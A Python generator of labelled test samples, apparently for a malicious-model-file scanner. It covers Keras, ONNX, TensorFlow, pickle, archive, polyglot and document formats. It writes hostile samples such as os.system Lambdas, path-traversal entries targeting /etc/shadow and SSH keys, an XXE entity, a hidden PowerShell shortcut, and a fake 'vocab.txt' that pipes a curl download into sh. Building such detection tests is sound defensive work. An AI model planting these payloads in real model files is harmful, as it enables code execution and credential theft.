"""The part of the fourth set that is bytes: Keras, graphs, tensors, archives, disguises and what else is loaded."""

import base64
import bz2
import gzip
import json
import lzma
import struct
import zipfile
import zlib

from formats import *

ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(60)
PE = b"MZ\x90" + bytes(57) + struct.pack("<I", 64) + b"PE\0\0" + bytes(60)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def binary(w):
    keras(w)
    hdf(w)
    tensorflow(w)
    onnx(w)
    tensors(w)
    numpy_files(w)
    packed(w)
    zips(w)
    tars(w)
    disguises(w)
    documents(w)
    others(w)
    calm(w)


def layer(name, config, module="keras.layers", **more):
    return {"module": module, "class_name": name, "config": config, "registered_name": None, **more}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def keras(w):
    marshalled = base64.b64encode(code_bytes("def f(x):\n import os\n os.system('true')\n return x")).decode()
    lambda_ = {"class_name": "__lambda__", "config": {"code": marshalled, "defaults": None, "closure": None}}
    bad = [
        layer("Lambda", {"name": "l", "function": lambda_, "arguments": {}}),
        layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(bad_pickle()).decode()}, "keras.src.utils.torch_utils"),
        layer("Dense", {"units": 1, "activation": function("keras.utils", "get_file")}),
        layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd"}),
        layer("TextVectorization", {"name": "s", "vocabulary": "http://127.0.0.1:9/x"}),
        layer("IntegerLookup", {"vocabulary": "../../../etc/shadow"}),
        layer("Dense", {"units": 1, "kernel_initializer": function("keras.config", "enable_unsafe_deserialization")}),
        layer("Dense", {"units": 1, "activation": function("keras.src.saving.serialization_lib", "enable_unsafe_deserialization")}),
        layer("Dense", {"units": 1, "activation": function("builtins", "eval")}),
        layer("Dense", {"units": 1, "activation": function("keras.src.utils.file_utils", "get_file")}),
        layer("system", {"command": "true"}, "os"),
        layer("Popen", {"args": "true"}, "subprocess"),
        layer("Wrapper", {"layer": layer("Lambda", {"function": lambda_})}),
        layer("Bidirectional", {"layer": layer("RNN", {"cell": layer("Lambda", {"function": lambda_})})}),
        layer("Lambda", {"function": "system", "function_type": "function", "module": "os"}),
        layer("Dense", {"units": 1, "activation": function("sys", "modules")}, "keras.layers"),
    ]
    for one in bad:
        w.put("keras", "malicious", "m.keras", keras_file(keras_config(dense(), one)))
    functional = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional", "config": {"name": "f", "layers": [
        {**dense(), "name": "d", "inbound_nodes": [{"args": [], "kwargs": {"x": function("os", "system")}}]}], "input_layers": [["d", 0, 0]], "output_layers": [["d", 0, 0]]}}
    w.put("keras", "malicious", "m.keras", keras_file(functional))
    for key in ("compile_config", "build_config"):
        w.put("keras", "malicious", "m.keras", keras_file({**keras_config(dense()), key: {"metrics": [function("subprocess", "getoutput")]}}))
    w.put("keras", "surfaced", "m.keras", keras_file(keras_config(layer("Mine", {}, "evil", registered_name="Custom>Mine"))))
    w.put("keras", "surfaced", "m.keras", keras_file(keras_config(layer("TFSMLayer", {"filepath": "/tmp/evil", "call_endpoint": "serve"}))))
    w.put("keras", "malicious", "m.keras", keras_file(keras_config(dense()), **{"assets/s/vocab.pkl": bad_pickle()}))
    w.put("keras", "malicious", "model.json", json.dumps(keras_config(bad[0])))
    w.put("keras", "malicious", "model.json", json.dumps({"class_name": "Sequential", "keras_version": "2.4.0", "config": [{"class_name": "Lambda", "config": {"function": [marshalled, None, None], "function_type": "lambda"}}]}))
    w.put("keras", "malicious", "model.yaml", "class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function_type: lambda\n      function: !!python/tuple ['%s', null, null]\n" % marshalled)
    w.put("keras", "malicious", "keras_metadata.pb", pb((1, pb((2, 1), (3, "root.layer"), (4, "_tf_keras_layer"), (5, json.dumps({"class_name": "Lambda", "config": {"function_type": "lambda", "function": {"class_name": "__tuple__", "items": [marshalled, None, None]}}}))))))
    for kind in ("lambda", "function"):
        config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function_type": kind, "module": "os", "function": [marshalled, None, None] if kind == "lambda" else "system"}}]}}
        w.put("keras", "malicious", "m.h5", h5({"model_config": json.dumps(config)}))
    shaped = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function_type": "function", "function": "relu", "module": "keras", "output_shape_type": "lambda", "output_shape": [marshalled, None, None]}}]}}
    w.put("keras", "malicious", "m.h5", h5({"model_config": json.dumps(shaped)}))
    calm = [layer("InputLayer", {"batch_shape": [None, 4]}), layer("StringLookup", {"vocabulary": ["a", "b"]}), layer("Dense", {"units": 3, "activation": "relu", "kernel_initializer": layer("GlorotUniform", {"seed": None}, "keras.initializers")})]
    w.put("keras", "ordinary", "m.keras", keras_file({**keras_config(*calm), "compile_config": {"optimizer": "adam", "loss": "mse", "metrics": ["accuracy"]}}))
    w.put("keras", "ordinary", "model.json", json.dumps({**keras_config(*calm), "keras_version": "2.15.0", "backend": "tensorflow"}))


def hdf(w):
    import h5py
    import numpy

    def external(file):
        file["w"] = h5py.ExternalLink("/etc/secret.h5", "/x")

    def storage(file):
        file.create_dataset("w", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])

    def near(file):
        file["w"] = h5py.ExternalLink("part2.h5", "/x")

    def pickled(file):
        file.attrs["title"] = numpy.bytes_(bad_pickle(0))
        file.attrs["CLASS"] = numpy.bytes_("GROUP")

    def held(file):
        data = file.create_dataset("block0_values", data=numpy.frombuffer(bad_pickle(), dtype="u1"))
        data.attrs["PSEUDOATOM"], data.attrs["CLASS"] = numpy.bytes_("object"), numpy.bytes_("VLARRAY")

    def array(file):
        file.attrs["samples"] = numpy.void(bad_pickle(4))

    def weights(file):
        group = file.create_group("model_weights/dense")
        group.create_dataset("kernel:0", data=numpy.ones((3, 4), "f4"), compression="gzip")
        group.attrs["weight_names"] = [b"kernel:0"]

    for label, build in (("surfaced", external), ("surfaced", storage), ("surfaced", near), ("malicious", pickled), ("malicious", held), ("surfaced", array), ("ordinary", weights)):
        w.put("hdf5", label, "m.h5", h5({}, build if build is not weights else lambda file: (file.pop("model_weights"), weights(file))))
    w.put("hdf5", "malicious", "m.h5", ELF.ljust(512, b"\0") + h5({}))
    w.put("hdf5", "malicious", "m.h5", bad_pickle().ljust(512, b"\0") + h5({}))


def const(name, text):
    return node(name, "Const", (5, pb((1, "value"), (2, pb((8, pb((1, 7), (8, text))))))))


def reading(op, path):
    return [const("p", path), pb((1, "r"), (2, op), (3, "p"))]


def tensorflow(w):
    for label, op, path in (("malicious", "ReadFile", "/etc/passwd"), ("malicious", "MatchingFiles", "/home/*/.ssh/*"), ("malicious", "TextLineDataset", "/etc/shadow"), ("surfaced", "FixedLengthRecordDataset", "data.bin"), ("surfaced", "DataServiceDatasetV2", "grpc://127.0.0.1:9"), ("malicious", "WriteFile", "x"), ("malicious", "TFRecordDataset", "../../../x"), ("malicious", "SaveV2", "/etc/cron.d/x"), ("malicious", "WholeFileReaderV2", "/etc/x")):
        w.put("tensorflow", label, "saved_model.pb", saved_model(reading(op, path)))
    for op in ("PyFunc", "EagerPyFunc"):
        w.put("tensorflow", "malicious", "saved_model.pb", saved_model([node("a", "Const")], [("f", [node("b", op)])]))
        graph = pb((1, node("b", op)))
        w.put("tensorflow", "malicious", "model.ckpt.meta", pb((1, pb((4, "train"))), (2, graph)))
    for op in ("ImmutableConst", "CreateSummaryFileWriter", "DebugNumericSummaryV2", "RpcCall", "MyCustomOp"):
        w.put("tensorflow", "surfaced", "saved_model.pb", saved_model([node("a", "Const"), node("b", op)]))
    w.put("tensorflow", "malicious", "frozen_graph.pb", pb((1, node("x", "Placeholder")), (2, pb((1, pb((1, pb((1, "f"))), (3, node("y", "PyFunc"))))))))
    w.put("tensorflow", "ordinary", "saved_model.pb", saved_model([node("a", "Const"), node("v", "VarHandleOp"), node("r", "ReadVariableOp"), node("m", "MatMul"), node("s", "StatefulPartitionedCall"), node("h", "HashTableV2"), node("i", "StaticRegexReplace")]))


def onnx(w):
    def initial(path):
        return onnx_model([onnx_node("Relu")], [onnx_outside(path)])

    for path in ("../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "a/./../../b", "..\\..\\x", "//server/share/x", "~/.ssh/id_rsa", "/proc/self/environ"):
        w.put("onnx", "malicious", "m.onnx", initial(path))
    outside = onnx_outside("../../../secret")
    listed = onnx_node("X", "", pb((1, "t"), (10, outside), (20, 9)))
    w.put("onnx", "malicious", "m.onnx", onnx_model([listed]))
    graph = pb((1, onnx_node("Relu")), (2, "g"), (5, outside))
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("Scan", "", pb((1, "body"), (11, graph), (20, 10)))]))
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("Relu")]) + pb((20, pb((1, graph)))))
    sparse = pb((1, outside), (2, outside), (3, 4))
    w.put("onnx", "malicious", "m.onnx", pb((1, 8), (7, pb((1, onnx_node("Relu")), (2, "g"), (15, sparse))), (8, pb((2, 17)))))
    w.put("onnx", "surfaced", "m.onnx", onnx_model([onnx_node("Run", "evil.ops")], domains=("", "evil.ops")))
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("PyOp", "ai.onnx.contrib")], domains=("", "ai.onnx.contrib")))
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("PythonOp", "com.microsoft")], domains=("", "com.microsoft")))
    context = [pb((1, "embed_mode"), (3, 0), (20, 2)), pb((1, "ep_cache_context"), (4, "../../../x.so"), (20, 3))]
    w.put("onnx", "malicious", "m.onnx", onnx_model([onnx_node("EPContext", "com.microsoft", *context)], domains=("", "com.microsoft")))
    w.put("onnx", "ordinary", "m.onnx", onnx_model([onnx_node("LayerNormalization"), onnx_node("Attention", "com.microsoft"), onnx_node("TreeEnsembleClassifier", "ai.onnx.ml")], domains=("", "com.microsoft", "ai.onnx.ml")))


def tensors(w):
    one = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    w.put("safetensors", "malicious", "m.safetensors", safetensors({"a": one}) + zipped({"a/data.pkl": bad_pickle()}))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one}, length=1 << 40))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one, "b": {**one, "data_offsets": [8, 24]}}, bytes(24)))
    w.put("safetensors", "surfaced", "m.safetensors", safetensors({"a": one}) + b"trailing bytes here")
    w.put("safetensors", "malicious", "m.safetensors", safetensors({"__metadata__": {"x": bad_pickle(0).decode()}, "a": one}))
    w.put("gguf", "malicious", "m.gguf", gguf({"general.architecture": "x"}) + bad_pickle())
    w.put("gguf", "malicious", "m.gguf", gguf({"general.architecture": "x", "general.description": bad_pickle()}))
    for bad in (gguf({"a": "b"}, count=1 << 60), gguf({"general.alignment": 0}), gguf({"a": "b"}, tensors=[("t", [4] * 200, 0, 0)]), gguf({"a": "b"}, tensors=[("t", [4], 0, 1 << 50)]), gguf({"a": "b"}, tensors=[("t", [1 << 40, 1 << 40], 0, 0)]), gguf({"a": "b"}, tensors=[("t", [4], 9999, 0)])):
        w.put("gguf", "surfaced", "m.gguf", bad)
    w.put("gguf", "malicious", "m.gguf", PE + gguf({"a": "b"}))


def numpy_files(w):
    import numpy

    def saved(array, **more):
        out = io.BytesIO()
        numpy.save(out, array, **more)
        return out.getvalue()

    held = numpy.empty((), dtype=object)
    held[()] = Call(os.system, "true")
    w.put("numpy", "malicious", "a.npy", saved(held, allow_pickle=True))
    w.put("numpy", "malicious", "a.npz", zipped({"x.npy": saved(numpy.ones(2)), "y.npy": saved(held, allow_pickle=True)}))
    w.put("numpy", "malicious", "a.npz", zipped({"x": saved(held, allow_pickle=True)}))
    w.put("numpy", "malicious", "a.npy.gz", gzip.compress(saved(held, allow_pickle=True)))
    header = b"{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }\n"
    w.put("numpy", "malicious", "a.npy", b"\x93NUMPY\3\0" + struct.pack("<I", len(header)) + header + bad_pickle(0))
    header = b"{'descr': __import__('os').system('true'), 'fortran_order': False, 'shape': (1,), }\n"
    w.put("numpy", "surfaced", "a.npy", b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + bytes(8))
    w.put("numpy", "ordinary", "a.npy", saved(numpy.zeros(2, dtype=[("a", "<f4"), ("b", "U4", (2,))])))
    w.put("numpy", "ordinary", "a.npz", zipped({"x.npy": saved(numpy.ones(2)), "y.npy": saved(numpy.array(["a"]))}))


def lz4_frame(data):
    head = b"\x60\x40"
    mask, prime = (1 << 32) - 1, (0x9E3779B1, 0x85EBCA77, 0xC2B2AE3D, 0x27D4EB2F, 0x165667B1)
    total = prime[4] + 2
    for byte in head:
        total = total + byte * prime[4] & mask
        total = ((total << 11 | total >> 21) & mask) * prime[0] & mask
    total = (total ^ total >> 15) * prime[1] & mask
    total = (total ^ total >> 13) * prime[2] & mask
    total ^= total >> 16
    return b"\x04\x22\x4d\x18" + head + bytes([total >> 8 & 255]) + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def packed(w):
    import py7zr
    import zstandard

    bad, good = bad_pickle(), calm_pickle()
    zst = zstandard.compress
    for name, data in (
        ("m.pkl.gz", gzip.compress(good) + gzip.compress(bad)), ("m.joblib", zlib.compress(bad, 1)), ("m.joblib", lzma.compress(bad)), ("m.joblib", bz2.compress(bad)),
        ("m.joblib", lz4_frame(bad)), ("m.zst", b"\x50\x2a\x4d\x18\4\0\0\0abcd" + zst(bad)), ("m.zst", zst(good) + zst(bad)), ("m.xz", lzma.compress(good) + lzma.compress(bad)),
        ("m.bz2", bz2.compress(good) + bz2.compress(bad)), ("m.bin", gzip.compress(zlib.compress(lzma.compress(bad)))), ("weights.bin", zst(gzip.compress(tarred({"a.pkl": bad})))),
        ("m.gz", b"\x1f\x8b\x08\x1c" + bytes(6) + struct.pack("<H", 4) + b"abcd" + b"name\0comment\0" + gzip.compress(bad)[10:]), ("m.lz4", lz4_frame(zipped({"data.pkl": bad}))),
        ("model.safetensors", gzip.compress(bad)), ("m.joblib.z", zlib.compress(bad, 9)),
    ):
        w.put("packed", "malicious", name, data)
    for filters in ([{"id": py7zr.FILTER_LZMA2, "preset": 1}], [{"id": py7zr.FILTER_X86}, {"id": py7zr.FILTER_LZMA2, "preset": 1}], [{"id": py7zr.FILTER_COPY}], [{"id": py7zr.FILTER_DEFLATE}], [{"id": py7zr.FILTER_ZSTD}]):
        out = io.BytesIO()
        with py7zr.SevenZipFile(out, "w", filters=filters) as archive:
            archive.writestr(zipped({"a/data.pkl": bad}), "a.pt")
        w.put("packed", "malicious", "pytorch_model.bin", out.getvalue())
    ar = b"!<arch>\n" + b"data.pkl/".ljust(16) + b"0".ljust(12) + b"0".ljust(6) + b"0".ljust(6) + b"644".ljust(8) + str(len(bad)).encode().ljust(10) + b"`\n" + bad
    w.put("packed", "malicious", "m.a", ar)
    cpio = b"070701" + b"%08X" * 13 % (1, 0o100644, 0, 0, 1, 0, len(bad), 0, 0, 0, 0, 6, 0) + b"a.pkl\0" + bytes(2) + bad
    w.put("packed", "surfaced", "m.cpio", cpio)
    w.put("packed", "surfaced", "m.Z", b"\x1f\x9d\x90" + bytes(30))
    w.put("packed", "surfaced", "m.cab", b"MSCF" + bytes(60))
    w.put("packed", "ordinary", "m.joblib", zlib.compress(good))
    w.put("packed", "ordinary", "m.tar.zst", zst(tarred({"a/config.json": b"{}"})))


def flipped(data, old, new):
    assert old in data
    return data.replace(old, new)


def zips(w):
    bad, good = bad_pickle(), calm_pickle()
    stored = zipped({"archive/data.pkl": bad, "archive/version": b"3\n"}, 0)
    central = stored.index(b"PK\1\2")
    encrypted = bytearray(stored)
    encrypted[6] |= 1
    encrypted[central + 8] |= 1
    w.put("zip", "malicious", "m.pt", bytes(encrypted))
    crc = bytearray(stored)
    crc[14:18] = crc[central + 16:central + 20] = b"\1\2\3\4"
    w.put("zip", "malicious", "m.pt", bytes(crc))
    w.put("zip", "malicious", "m.pt", stored[:central].replace(b"data.pkl", b"data.txt") + stored[central:])
    w.put("zip", "malicious", "m.pt", stored[:central] + stored[central:].replace(b"data.pkl", b"data.txt"))
    twice = io.BytesIO()
    import warnings
    warnings.simplefilter("ignore")
    for order in ((good, bad), (bad, good)):
        twice = io.BytesIO()
        with zipfile.ZipFile(twice, "w") as archive:
            for data in order:
                archive.writestr("archive/data.pkl", data)
        w.put("zip", "malicious", "m.pt", twice.getvalue())
    local = stored[:stored.index(b"PK\3\4", 4)]
    calm = zipped({"archive/data.pkl": good}, 0)
    at = calm.index(b"PK\1\2")
    moved = calm[:at] + local + calm[at:-6] + struct.pack("<I", at + len(local)) + calm[-2:]
    w.put("zip", "malicious", "m.pt", moved)
    commented = io.BytesIO()
    with zipfile.ZipFile(commented, "w") as archive:
        archive.writestr("a.txt", b"x")
        archive.comment = bad
    w.put("zip", "surfaced", "m.zip", commented.getvalue())
    linked = io.BytesIO()
    with zipfile.ZipFile(linked, "w") as archive:
        info = zipfile.ZipInfo("config.json")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    w.put("zip", "malicious", "m.zip", linked.getvalue())
    w.put("zip", "malicious", "m.zip", zipped({"../../../etc/ssh/authorized_keys": b"x"}))
    w.put("zip", "malicious", "m.zip", zipped({"/etc/cron.d/x": b"x"}))
    w.put("zip", "malicious", "m.zip", zipped({"a\\..\\..\\..\\x.exe": PE}))
    nest = zipped({"archive/data.pkl": bad})
    for level in range(6):
        nest = zipped({f"l{level}.zip": nest})
    w.put("zip", "malicious", "m.zip", nest)
    w.put("zip", "malicious", "m.zip", zipped({"logo.png": bad}))
    w.put("zip", "malicious", "m.zip", zipped({"README": bad_pickle(0)}))
    w.put("zip", "surfaced", "m.zip", zipped({"a.bin": zlib.compress(bytes(1))[:2] + bytes(300_000_000)}))
    w.put("zip", "malicious", "model.zip", PE + zipped({"a.txt": b"x"}))
    w.put("zip", "malicious", "model.zip", ELF + zipped({"a.txt": b"x"}))
    w.put("zip", "malicious", "m.jar", zipped({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "a.pkl": bad}))
    w.put("zip", "malicious", "m.mar", zipped({"MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}', "handler.py": b"import os\nos.system('true')\n"}))
    w.put("zip", "malicious", "m.pt2", zipped({"m/archive_format": b"pt2", "m/data/sample_inputs/model.pt": zipped({"x/data.pkl": bad})}))
    w.put("zip", "surfaced", "m.pt2", zipped({"m/archive_format": b"pt2", "m/data/aotinductor/model/x.so": ELF}))
    w.put("zip", "malicious", "m.egg", zipped({"x/__init__.py": b"__import__('os').system('true')\n", "EGG-INFO/PKG-INFO": b""}))
    w.put("zip", "malicious", "m.whl", zipped({"x-1.data/purelib/x.pth": b"import os; os.system('true')\n"}))
    w.put("zip", "malicious", "m.pt", zipped({"m/code/__torch__.py": b"class M(Module):\n  def forward(self: __torch__.M) -> Tensor:\n    return ops.aten.from_file(\"/etc/passwd\", True, 100)\n", "m/data.pkl": good}))
    w.put("zip", "malicious", "m.npz", zipped({"evil.py": b"import os\nos.system('true')\n"}))
    w.put("zip", "ordinary", "m.pt", zipped({"m/code/__torch__.py": b"class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return torch.relu(x)\n", "m/data.pkl": good, "m/constants.pkl": pickle.dumps((), 2), "m/version": b"3\n", "m/byteorder": b"little"}, 0))


def tars(w):
    bad = bad_pickle()
    w.put("tar", "malicious", "m.tar", tarred({"a/" * 60 + "../" * 80 + "x": b"x"}))
    w.put("tar", "malicious", "m.tgz", tarred({"out/x.sh": b"true\n"}, "w:gz", links=[("out", "/tmp", b"2")]))
    w.put("tar", "malicious", "m.tar", tarred({}, links=[("a", "/etc/passwd", b"1")]))
    w.put("tar", "malicious", "m.tar", tarred({".ssh/../../../x": b"x"}))
    w.put("tar", "malicious", "m.pt", tarred({"storages": pickle.dumps(1, 2), "tensors": pickle.dumps(1, 2), "pickle": bad}))
    w.put("tar", "malicious", "m.tar.gz", gzip.compress(tarred({"a.txt": b"x"})) + gzip.compress(tarred({"b.pkl": bad})))
    w.put("tar", "malicious", "m.tar", tarred({"a.txt": b"x"}) + tarred({"b.pkl": bad}))
    w.put("tar", "surfaced", "m.tar", tarred({}, links=[("dev/sda", "", b"4"), ("fifo", "", b"6")]))
    w.put("tar", "malicious", "m.nemo", tarred({"./model_config.yaml": b"model:\n  tokenizer:\n    _target_: subprocess.Popen\n    args: 'true'\n", "./model_weights.ckpt": zipped({"a/data.pkl": calm_pickle()})}))
    w.put("tar", "malicious", "pytorch_model.bin", tarred({"x/y.pickle": bad}, "w:bz2"))
    w.put("tar", "ordinary", "m.nemo", tarred({"./model_config.yaml": b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n", "./model_weights.ckpt": zipped({"a/data.pkl": calm_pickle()})}))


def disguises(w):
    macho = struct.pack("<IIIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 1, 16, 0) + bytes(64)
    fat = struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">IIIII", 0x01000007, 3, 4096, 100, 12) * 2
    for name, data in (("pytorch_model.bin", ELF), ("model.safetensors", macho), ("weights.h5", fat), ("model.gguf", PE), ("tokenizer.json", ELF), ("model.safetensors.exe", PE), ("model.gguf.exe", PE), ("vocab.txt", b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"), ("config.json", b"#!/usr/bin/python3\nimport os\nos.system('true')\n"), ("model", b"#!/usr/bin/env python\n__import__('os').system('true')\n"), ("a.parquet", PE), ("logo.png", ELF), ("tokenizer.model", b"import os\nos.system('true')\n")):
        w.put("disguise", "malicious" if name != "tokenizer.model" else "surfaced", name, data)
    for name, data in (("x.bin", b"\0asm\1\0\0\0" + bytes(20)), ("x.bin", b"dex\n035\0" + bytes(100)), ("model.safetensors", b"<html><script>fetch(1)</script></html>"), ("X.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)), ("libmodel.dylib", macho)):
        w.put("disguise", "surfaced", name, data)
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(17) + struct.pack(">I", 0) + b"IEND\xaeB`\x82"
    gif = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    jpg = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(9) + b"\xff\xda\0\2" + bytes(8) + b"\xff\xd9"
    wav = b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + bytes(4)
    parquet = b"PAR1" + bytes(30) + struct.pack("<I", 10) + b"PAR1"
    bad, archive = bad_pickle(), zipped({"a/data.pkl": bad_pickle()})
    for name, data in (("a.png", png), ("a.gif", gif), ("a.jpg", jpg), ("a.wav", wav), ("a.parquet", parquet)):
        w.put("polyglot", "malicious", name, data + archive)
        w.put("polyglot", "malicious", name, data + bad)
    text = struct.pack(">I", 40) + b"tEXt" + b"Comment\0" + bytes(32) + bytes(4)
    w.put("polyglot", "ordinary", "a.png", png[:33] + text + png[33:])
    w.put("polyglot", "malicious", "a.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n" + archive)
    w.put("polyglot", "malicious", "a.md", b"# Model card\n" * 20 + archive)
    w.put("polyglot", "malicious", "config.json", b'{"a": 1}\n' + archive)
    w.put("polyglot", "malicious", "m.onnx", onnx_model([onnx_node("Relu")]) + archive)
    w.put("polyglot", "malicious", "m.npy", b"\x93NUMPY\1\0" + struct.pack("<H", 58) + b"{'descr':'<f8','fortran_order':False,'shape':(1,)}".ljust(57) + b"\n" + bytes(8) + archive)
    w.put("polyglot", "malicious", "m.h5", h5({}) + archive)
    w.put("polyglot", "surfaced", "m.pkl", b"\xef\xbb\xbf" + bad)


def documents(w):
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    w.put("document", "surfaced", "paper.pdf", pdf)
    w.put("document", "surfaced", "paper.pdf", pdf.replace(b"/JavaScript /JS (app.alert\\(1\\))", b"/Launch /F (cmd.exe)"))
    w.put("document", "surfaced", "card.rtf", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105000002000000}}}")
    rels = b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/x.dotm" TargetMode="External"/></Relationships>'
    w.put("document", "surfaced", "card.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/_rels/settings.xml.rels": rels}))
    w.put("document", "malicious", "data.xlsm", zipped({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": OLE + bytes(600)}))
    w.put("document", "surfaced", "data.xls", OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b"Auto_Open Shell" + bytes(400))
    link = b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + struct.pack("<I", 0xE0) + bytes(52)
    w.put("document", "malicious", "README.lnk", link + struct.pack("<H", 3) + "cmd".encode("utf-16-le") + struct.pack("<H", 40) + "/c powershell -enc dAByAHUAZQA= -w hidden".encode("utf-16-le"))
    w.put("document", "ordinary", "paper.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    w.put("document", "ordinary", "notes.docx", zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}))


def others(w):
    bad = bad_pickle()
    w.put("paddle", "malicious", "model.pdparams", bad)
    w.put("paddle", "malicious", "__model__", pb((1, pb((1, 0), (2, 0), (4, pb((3, "py_func"))))), (4, pb((1, 0)))))
    w.put("mxnet", "surfaced", "m-symbol.json", json.dumps({"nodes": [{"op": "Custom", "name": "x", "attrs": {"op_type": "evil"}, "inputs": []}], "heads": [[0, 0, 0]]}))
    w.put("other", "surfaced", "m.rds", gzip.compress(b"X\n" + struct.pack(">III", 3, 0x40300, 0x30500) + struct.pack(">I", 5) + b"UTF-8" + struct.pack(">I", 5) + struct.pack(">I", 6) + struct.pack(">II", 1, 0x40009) + struct.pack(">I", 6) + b"system"))
    w.put("other", "surfaced", "m.jls", b"7JL\x1c\4\0\0\0" + bytes(40))
    w.put("other", "surfaced", "m.model", b"\xac\xed\0\5sr\0\x1aweka.classifiers.X" + bytes(30))
    w.put("other", "malicious", "m.ser", b"\xac\xed\0\5sr\0:org.apache.commons.collections.functors.InvokerTransformer" + bytes(12) + b"t\0\4exect\0\x11java.lang.Runtime")
    w.put("other", "surfaced", "m.dat", b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0\x0c\2" + b"System.Windows.Data.ObjectDataProvider" + bytes(9))
    w.put("other", "surfaced", "m.rbm", b"\4\x08o:\x15Gem::Installer" + bytes(8))
    packed = b"\x84\xc4\2nd\xc3\xc4\4kind\xc4\1O\xc4\4data\xc4" + bytes([len(bad)]) + bad + b"\xc4\5shape\x91\1"
    w.put("other", "malicious", "m.msgpack", packed)
    w.put("other", "malicious", "m.msgpack", b"\x81\xa1a\xc7" + bytes([len(bad)]) + b"\5" + bad)
    arrow = b"ARROW1\0\0" + b"ARROW:extension:name\0arrow.py_extension_type\0ARROW:extension:metadata\0" + bad + bytes(8) + b"ARROW1"
    w.put("other", "malicious", "m.arrow", arrow)
    w.put("other", "malicious", "m.parquet", b"PAR1" + bytes(4) + arrow + struct.pack("<I", len(arrow)) + b"PAR1")
    w.put("other", "surfaced", "m.db", b"SQLite format 3\0" + bytes(84) + bad)
    legacy = b"".join(pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})) + bad + pickle.dumps([], 2)
    w.put("torch", "malicious", "old.pth.tar", legacy)
    w.put("torch", "malicious", "m.ckpt", pickle.dumps({"state": 1}, 2) + b"\0" * 64 + bad)
    w.put("openvino", "malicious", "m.xml", "<?xml version='1.0'?><!DOCTYPE n [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><net name='&a;' version='11'><layers/></net>")
    w.put("openvino", "surfaced", "m.xml", "<?xml version='1.0'?><net name='m' version='11'><layers><layer id='0' name='x' type='Evil' version='extension'/></layers></net>")
    w.put("pmml", "surfaced", "m.pmml", "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'>]><PMML>&d;</PMML>")
    w.put("other", "surfaced", "Model.java", "public class Model { static { try { Runtime.getRuntime().exec(\"true\"); } catch (Exception e) {} } }\n")
    w.put("skops", "malicious", "m.skops", zipped({"schema.json": json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"k": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": "os.system"}}}).encode()}))
